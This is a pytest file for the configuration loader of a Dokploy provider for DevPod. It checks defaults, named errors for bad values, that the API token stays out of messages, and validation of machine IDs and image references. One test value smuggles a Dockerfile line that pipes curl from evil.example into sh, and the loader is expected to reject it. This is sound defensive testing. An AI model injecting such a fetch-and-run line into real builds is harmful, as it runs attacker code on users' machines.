"""Options: env → settings, every bad value one clear message."""

from __future__ import annotations

import pydantic
import pytest

from dokploy_provider.errors import ConfigurationError
from dokploy_provider.option_table import OPTIONS
from dokploy_provider.options import (
    DEFAULT_AGENT_PATH,
    DEFAULT_WORKSPACE_IMAGE,
    MAX_MACHINE_ID_LENGTH,
    PortRange,
    Settings,
    load_settings,
    machine_id_from_env,
    parse_duration,
    parse_memory,
)

BASE = {"DOKPLOY_SERVER_URL": "http://203.0.113.10:3000", "DOKPLOY_API_TOKEN": "tok-secret-123"}


def test_defaults_apply_and_empty_values_count_as_unset() -> None:
    settings = load_settings({**BASE, "DOKPLOY_PROJECT_NAME": "", "DOKPLOY_SSH_PORT_RANGE": ""})
    assert settings.project_name == "devpod-workspaces"
    assert settings.port_range == PortRange(2222, 2250)
    assert settings.deploy_timeout == 15 * 60
    assert settings.keep_volumes is False
    assert settings.agent_path == "/var/lib/devpod/devpod"
    assert settings.server_url.api_base == "http://203.0.113.10:3000/api"


def test_missing_required_options_are_all_named() -> None:
    with pytest.raises(ConfigurationError) as info:
        load_settings({})
    assert "DOKPLOY_SERVER_URL is required" in str(info.value)
    assert "DOKPLOY_API_TOKEN is required" in str(info.value)


@pytest.mark.parametrize(
    ("name", "value", "fragment"),
    [
        ("DOKPLOY_SSH_PORT_RANGE", "2250-2222", "reversed"),
        ("DOKPLOY_SSH_PORT_RANGE", "0-10", "outside 1-65535"),
        ("DOKPLOY_SSH_PORT_RANGE", "22x", "not a port range"),
        ("DOKPLOY_SSH_PORT_RANGE", "70000", "outside 1-65535"),
        ("DOKPLOY_DEPLOY_TIMEOUT", "soon", "not a duration"),
        ("WORKSPACE_CPUS", "two", "not a number of CPUs"),
        ("WORKSPACE_CPUS", "0", "more than 0"),
        ("WORKSPACE_MEMORY", "lots", "not a memory size"),
        ("WORKSPACE_MEMORY", "1m", "below the 64m"),
        ("WORKSPACE_GPU", "some", "none, all, or a number"),
        ("AGENT_PATH", "/tmp/devpod", "under /tmp"),
        ("AGENT_PATH", "devpod", "absolute path"),
        ("WORKSPACE_KEEP_VOLUMES", "maybe", "true or false"),
        ("DOKPLOY_SERVER_URL", "dokploy.example.com", "https://"),
    ],
)
def test_bad_values_name_the_option(name: str, value: str, fragment: str) -> None:
    with pytest.raises(ConfigurationError) as info:
        load_settings({**BASE, name: value})
    message = str(info.value)
    assert name in message
    assert fragment in message


def test_token_value_never_in_error_messages() -> None:
    with pytest.raises(ConfigurationError) as info:
        load_settings({**BASE, "DOKPLOY_SSH_PORT_RANGE": "bad"})
    assert "tok-secret-123" not in str(info.value)
    settings = load_settings(BASE)
    assert "tok-secret-123" not in repr(settings)
    assert "tok-secret-123" not in str(settings)
    assert settings.token == "tok-secret-123"


def test_durations_and_sizes() -> None:
    assert parse_duration("90s") == 90
    assert parse_duration("1h30m") == 5400
    assert parse_duration("45") == 45
    assert parse_memory("4g") == 4 * 1024**3
    assert parse_memory("512MiB") == 512 * 1024**2


def test_gpu_is_normalised() -> None:
    assert load_settings({**BASE, "WORKSPACE_GPU": "ALL"}).workspace_gpu == "all"
    assert load_settings({**BASE, "WORKSPACE_GPU": "2"}).workspace_gpu == "2"


@pytest.mark.parametrize(
    ("value", "fragment"),
    [
        ("", "not set"),
        ("Bad_ID", "invalid"),
        ("-lead", "invalid"),
        ("a" * 50, "over the 49"),
    ],
)
def test_machine_id_validation(value: str, fragment: str) -> None:
    with pytest.raises(ConfigurationError) as info:
        machine_id_from_env({"MACHINE_ID": value})
    assert fragment in str(info.value)


def test_machine_id_at_the_limit_fits_dokploy_app_name() -> None:
    machine_id = "a" * MAX_MACHINE_ID_LENGTH
    assert machine_id_from_env({"MACHINE_ID": machine_id}) == machine_id
    assert len(f"devpod-{machine_id}-abcdef") == 63


def test_load_settings_reads_only_the_mapping_it_is_given(monkeypatch) -> None:
    # DevPod exports the options; a caller passing its own mapping must get exactly that.
    monkeypatch.setenv("DOKPLOY_SERVER_URL", "https://exported.example")
    monkeypatch.setenv("DOKPLOY_API_TOKEN", "exported-token")
    monkeypatch.setenv("WORKSPACE_CPUS", "7")
    settings = load_settings(
        {"DOKPLOY_SERVER_URL": "https://given.example", "DOKPLOY_API_TOKEN": "given-token"}
    )
    assert settings.server_url_raw == "https://given.example"
    assert settings.workspace_cpus == ""
    with pytest.raises(ConfigurationError, match="DOKPLOY_SERVER_URL is required"):
        load_settings({})


@pytest.mark.parametrize(
    "image",
    [
        "cruizba/ubuntu-dind:noble-27.0.3-r0",
        "debian:bookworm",
        "registry.example.com:5000/team/dind:27",
        "ghcr.io/org/img@sha256:" + "a" * 64,
    ],
)
def test_workspace_image_accepts_image_references(image: str) -> None:
    settings = load_settings(
        {
            "DOKPLOY_SERVER_URL": "https://d.example",
            "DOKPLOY_API_TOKEN": "tok1",
            "WORKSPACE_IMAGE": image,
        }
    )
    assert settings.workspace_image == image


@pytest.mark.parametrize(
    "image",
    ["debian:bookworm\nRUN curl evil.example | sh", "debian bookworm", "Debian:12", "a:b:c"],
)
def test_workspace_image_refuses_what_would_change_the_dockerfile(image: str) -> None:
    with pytest.raises(ConfigurationError, match="WORKSPACE_IMAGE"):
        load_settings(
            {
                "DOKPLOY_SERVER_URL": "https://d.example",
                "DOKPLOY_API_TOKEN": "tok1",
                "WORKSPACE_IMAGE": image,
            }
        )


def test_every_field_is_an_option_of_the_table_with_its_default() -> None:
    # One declaration per option: the model's aliases, defaults and required fields all come
    # from option_table.OPTIONS, as do the DEFAULT_* constants.
    fields = {str(f.alias): f for f in Settings.model_fields.values()}
    assert list(fields) == list(OPTIONS)
    for name, option in OPTIONS.items():
        assert fields[name].is_required() is option.required, name
        if not option.required:
            assert fields[name].default == option.default, name
    assert OPTIONS["WORKSPACE_IMAGE"].default == DEFAULT_WORKSPACE_IMAGE
    assert OPTIONS["AGENT_PATH"].default == DEFAULT_AGENT_PATH


def test_settings_is_a_plain_model_that_reads_no_environment(monkeypatch) -> None:
    # Not pydantic-settings: validating a mapping never consults os.environ.
    monkeypatch.setenv("DOKPLOY_SERVER_URL", "https://exported.example")
    monkeypatch.setenv("DOKPLOY_API_TOKEN", "exported-token")
    assert Settings.__mro__[1] is pydantic.BaseModel
    with pytest.raises(pydantic.ValidationError):
        Settings.model_validate({})
    with pytest.raises(pydantic.ValidationError):
        Settings()


def test_blank_project_name_is_refused_by_the_model() -> None:
    with pytest.raises(pydantic.ValidationError, match="must not be empty"):
        Settings.model_validate({**BASE, "DOKPLOY_PROJECT_NAME": ""})
